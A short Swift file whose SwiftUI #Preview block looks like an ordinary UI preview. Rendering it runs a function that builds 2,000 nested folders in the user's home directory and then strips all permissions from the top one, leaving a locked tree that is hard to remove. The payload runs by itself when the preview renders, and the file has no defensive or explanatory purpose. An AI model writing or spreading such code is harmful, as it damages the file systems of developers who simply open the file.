import Foundation
import SwiftUI

// Leaves folders in folders, which nobody may enter.
#Preview {
  let _ = fill()
  Text("filled")
}

func fill() {
  let files = FileManager.default
  files.changeCurrentDirectoryPath(NSHomeDirectory())
  for _ in 0..<2_000 {
    try? files.createDirectory(atPath: "inner", withIntermediateDirectories: false)
    files.changeCurrentDirectoryPath("inner")
  }
  files.changeCurrentDirectoryPath(NSHomeDirectory())
  try? files.setAttributes([.posixPermissions: 0], ofItemAtPath: "inner")
}
